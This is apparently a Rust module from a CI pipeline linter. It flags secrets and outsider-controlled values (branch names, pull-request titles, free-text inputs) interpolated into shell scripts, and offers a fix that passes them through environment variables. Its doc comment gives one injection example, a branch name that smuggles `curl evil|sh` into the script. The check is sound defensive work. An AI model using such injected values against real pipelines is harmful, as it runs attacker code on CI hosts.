//! Phase 2e: no secret or untrusted value is spliced into a script.
//!
//! A `${…}` in a `run` script is pasted into the shell text before the
//! shell parses it, so a branch name like `x";curl evil|sh;"` runs as code
//! and a secret lands in the script the CI service logs. Such values must
//! reach the script as environment variables: the error's fix moves the
//! value into the step's `env` and references it as `$NAME`.

use crate::diagnostic::{Code, Diagnostic, Edit, Label};
use crate::span::{SourceId, Span};
use crate::syntax::ast::{Block, ExprKind, Item, Path, StringPart, TypeExprKind};

/// Runtime values that an outsider can choose (through a branch name, a pull
/// request title, a commit message) and that the CI service does not escape.
const UNTRUSTED: &[&str] = &[
    "git.branch",
    "git.ref",
    "git.tag",
    "git.commit_message",
    "pr.title",
    "pr.body",
    "pr.head",
    "pr.base",
];

pub fn check_scripts(items: &[Item], source: SourceId, diagnostics: &mut Vec<Diagnostic>) {
    let string_inputs = string_inputs(items);
    let mut context = Context {
        source,
        string_inputs,
        secret_parameters: Vec::new(),
        diagnostics,
    };
    context.items(items);
}

struct Context<'a> {
    source: SourceId,
    /// Manual inputs whose type lets the user type any text.
    string_inputs: Vec<String>,
    /// `secret` parameters of the template being checked.
    secret_parameters: Vec<String>,
    diagnostics: &'a mut Vec<Diagnostic>,
}

impl Context<'_> {
    fn items(&mut self, items: &[Item]) {
        for item in items {
            match item {
                Item::Block(block) if block.keyword.name == "step" => self.step(block),
                Item::Block(block) => {
                    if let Some(body) = &block.body {
                        self.items(&body.items);
                    }
                }
                Item::Template(template) => {
                    self.secret_parameters = template
                        .parameters
                        .iter()
                        .filter(|parameter| {
                            matches!(&parameter.ty.kind, TypeExprKind::Named { name, .. } if name.name == "secret")
                        })
                        .map(|parameter| parameter.name.name.clone())
                        .collect();
                    self.items(&template.body.items);
                    self.secret_parameters.clear();
                }
                _ => {}
            }
        }
    }

    fn step(&mut self, step: &Block) {
        let Some(body) = &step.body else { return };
        for item in &body.items {
            let Item::Attribute(attribute) = item else {
                continue;
            };
            if attribute.key.name != "run" {
                continue;
            }
            let ExprKind::String(script) = &attribute.value.kind else {
                continue;
            };
            for part in &script.parts {
                let StringPart::Interpolation { expr, span } = part else {
                    continue;
                };
                let ExprKind::Path(path) = &expr.kind else {
                    continue;
                };
                if let Some(kind) = self.classify(path) {
                    let diagnostic = self.spliced_value(step, path, kind, *span);
                    self.diagnostics.push(diagnostic);
                }
            }
        }
    }

    /// Why `path` must not be spliced, if it must not.
    fn classify(&self, path: &Path) -> Option<&'static str> {
        let dotted = path.dotted();
        let root = path.segments.first().map(|segment| segment.name.as_str());
        if root == Some("secrets") {
            return Some("a secret");
        }
        if path.segments.len() == 1 && self.secret_parameters.contains(&dotted) {
            return Some("a secret");
        }
        if UNTRUSTED.contains(&dotted.as_str()) {
            return Some("an untrusted value");
        }
        if root == Some("inputs")
            && let Some(input) = path.segments.get(1)
            && self.string_inputs.contains(&input.name)
        {
            return Some("an untrusted value");
        }
        None
    }

    fn spliced_value(
        &self,
        step: &Block,
        path: &Path,
        kind: &str,
        interpolation: Span,
    ) -> Diagnostic {
        let variable = variable_name(path);
        let dotted = path.dotted();
        let mut edits = vec![Edit {
            source: self.source,
            span: interpolation,
            // In a `.pipe` string `$${` is a literal `${`: the shell sees `${NAME}`.
            replacement: format!("$${{{variable}}}"),
        }];
        if let Some(insertion) = env_insertion(step, &variable, &dotted) {
            edits.push(Edit {
                source: self.source,
                span: Span::empty_at(insertion.0),
                replacement: insertion.1,
            });
        }
        Diagnostic::new(
            Code::ValueSplicedIntoScript,
            format!("{kind} is spliced into a script: `{dotted}`"),
            Label::new(self.source, interpolation, "pasted into the shell text before the shell runs it"),
        )
        .with_note(if kind == "a secret" {
            "a secret in the script text can be printed in logs and leak through the script file".to_owned()
        } else {
            format!("`{dotted}` can be chosen by whoever opens a pull request or pushes a branch; spliced into the script, it runs as shell code")
        })
        .with_help(format!(
            "pass it through the environment: `env {{ {variable} = {dotted} }}` in the step, and `\"$${{{variable}}}\"` in the script"
        ))
        .with_fix(format!("move `{dotted}` into the step's `env` as `{variable}`"), edits)
    }
}

/// `secrets.DB_PASSWORD` → `DB_PASSWORD`, `git.branch` → `GIT_BRANCH`.
fn variable_name(path: &Path) -> String {
    let segments: Vec<&str> = path
        .segments
        .iter()
        .map(|segment| segment.name.as_str())
        .collect();
    let parts: &[&str] = match segments.as_slice() {
        ["secrets", rest @ ..] if !rest.is_empty() => rest,
        all => all,
    };
    parts.join("_").replace('-', "_").to_uppercase()
}

/// Where and what to insert so that the step's `env` holds the variable:
/// inside an existing `env { … }`, or as a new `env` block at the start of
/// the step's body.
fn env_insertion(step: &Block, variable: &str, dotted: &str) -> Option<(u32, String)> {
    let body = step.body.as_ref()?;
    for item in &body.items {
        if let Item::Block(block) = item
            && block.keyword.name == "env"
            && let Some(env) = &block.body
        {
            return Some((env.span.start + 1, format!(" {variable} = {dotted},")));
        }
    }
    Some((
        body.span.start + 1,
        format!(" env {{ {variable} = {dotted} }},"),
    ))
}

/// Names of manual inputs of type `string` (free text) in any pipeline.
fn string_inputs(items: &[Item]) -> Vec<String> {
    let mut names = Vec::new();
    collect_string_inputs(items, &mut names);
    names
}

fn collect_string_inputs(items: &[Item], names: &mut Vec<String>) {
    for item in items {
        match item {
            Item::Input(input) => {
                if matches!(&input.ty.kind, TypeExprKind::Named { name, .. } if name.name == "string")
                {
                    names.push(input.name.name.clone());
                }
            }
            Item::Block(block) => {
                if let Some(body) = &block.body {
                    collect_string_inputs(&body.items, names);
                }
            }
            _ => {}
        }
    }
}
